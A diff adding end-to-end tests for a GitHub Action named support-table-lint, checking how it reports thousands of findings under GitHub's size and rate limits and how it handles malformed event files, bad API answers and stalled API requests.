+  const loggedOf = (stdout: string) => new Set([...stdout.matchAll(/^support-table-lint: docs\/many\.md:\d+:\d+ error .*of "(Gate\d+)"/gm)].map((m) => m[1]));
+
+  it('past 4,300 findings with check-run: false and no report file, every finding is in the summary or the step log, and the summary says how many and where', async () => {
+    const N = 4_400;
+    const { result } = await pr(BASE_DOC, { 'docs/many.md': gates(many(N), []) }, {}, { 'check-run': 'false' });
+    expect(result.code).toBe(1);
+    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
+    const inSummary = rowsOf(result.summary);
+    const logged = loggedOf(result.stdout);
+    const left = N - inSummary.size;
+    expect(left).toBeGreaterThan(0);
+    expect(result.summary).toContain(
+      `_${left} of ${N} rows left out to stay under GitHub's size limit; the step log lists the ${logged.size} that are in no other report, under "support-table-lint: findings not shown elsewhere"; set the \`report-file\` input to get every finding as JSON._`,
+    );
+    expect(result.stdout).toContain('::group::support-table-lint: findings not shown elsewhere');
+    const everywhere = new Set([...inSummary, ...logged, ...commands(result.stdout, 'error').flatMap((e) => /of "(Gate\d+)"/.exec(e.message)?.[1] ?? [])]);
+    expect(everywhere.size).toBe(N);
+  });
+
+  it('when the check run hits the rate limit, says so and still loses nothing', async () => {
+    const N = 4_400;
+    const limited = { status: 403, headers: { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600) }, body: { message: 'API rate limit exceeded for installation.' } };
+    const { result } = await pr(BASE_DOC, { 'docs/many.md': gates(many(N), []) }, { script: { 'PATCH check-runs': [limited] } }, { 'check-run': 'true' });
+    const notice = commands(result.stdout, 'notice').find((n) => n.message.includes('check run'));
+    expect(notice?.message).toMatch(/^The support-table-lint check run holds only 50 of 4400 new findings: adding the rest failed \(HTTP 403: API rate limit exceeded for installation\.; GitHub's rate limit, .*\)\. All findings are in these annotations and the job summary and the step log\.$/);
+    const everywhere = new Set([...rowsOf(result.summary), ...loggedOf(result.stdout), ...commands(result.stdout, 'error').flatMap((e) => /of "(Gate\d+)"/.exec(e.message)?.[1] ?? [])]);
+    expect(everywhere.size).toBe(N);
+  });
+
+  it('writes outputs and the verdict when GITHUB_STEP_SUMMARY cannot be written, with one warning', async () => {
+    const nowhere = join(mkdtempSync(join(tmpdir(), 'stl-e2e-nosummary-')), 'missing', 'summary.md');
+    const { result } = await pr(BASE_DOC, TYPO_AND_UNSORTED, {}, {}, { env: { GITHUB_STEP_SUMMARY: nowhere } });
+    expect(result.code).toBe(1);
+    expect(result.outputs).toMatchObject({ errors: '1', warnings: '1', existing: '0', 'files-checked': '1', 'tables-checked': '1' });
+    const warnings = commands(result.stdout, 'warning').filter((w) => !w.props['file']);
+    expect(warnings.map((w) => w.message)).toEqual([expect.stringMatching(/^The job summary was not written: /)]);
+    const verdict = commands(result.stdout, 'error').filter((e) => !e.props['file']);
+    expect(verdict.map((e) => e.message)).toEqual(['support-table-lint found 1 new error in support tables (fail-on: error); see the annotations or the support-table-lint check run.']);
+  });
+});
+
+describe('bad input from the runner or the API (issue 12)', () => {
+  it('says what is wrong with a malformed event file, without a stack trace', async () => {
+    const { result } = await pr(BASE_DOC, BASE_DOC, {}, {}, { eventText: '{"pull_request": {' });
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'error')[0]?.message).toMatch(
+      /^support-table-lint: Could not read the event file GITHUB_EVENT_PATH \(.*event\.json\): it is not JSON \(.*\)\. Run this Action inside a GitHub Actions workflow\.$/,
+    );
+  });
+
+  it('falls back to git when the files API answers with something that is not a list', async () => {
+    const { result } = await pr(BASE_DOC, { [DOC]: gates(SORTED, NOTES.slice(1)) }, { pullFiles: 'not-a-list' });
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'notice').map((n) => n.message)).toContain(
+      'Listed the changed files with git because the pull request files API failed (the pull request files API did not answer with a list of files).',
+    );
+  });
+
+  it('gives up on a stalled API after the request timeout, and makes no further calls', async () => {
+    const { result, requests } = await pr(
+      BASE_DOC,
+      TYPO_AND_UNSORTED,
+      { script: { 'POST check-runs': ['stall'] } },
+      {},
+      // Test-only: the request timeout can be shortened (never lengthened) through this variable; see github-api.ts.
+      { env: { SUPPORT_TABLE_LINT_REQUEST_TIMEOUT_MS: '300' } },
+    );
+    expect(result.code).toBe(1);
+    expect(commands(result.stdout, 'notice').map((n) => n.message)).toEqual([
+      "No review with suggested fixes (1): could not read the review comments (GitHub's API did not answer within 0.3 s, so no further API calls were made).",
+      "No support-table-lint check run: the API failed (GitHub's API did not answer within 0.3 s, so no further API calls were made). The findings are in these annotations and the job summary.",
+    ]);
+    const after = requests.slice(requests.findIndex((r) => r.method === 'POST' && r.path.endsWith('/check-runs')) + 1);
+    expect(after).toEqual([]);
+    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
   });
 });
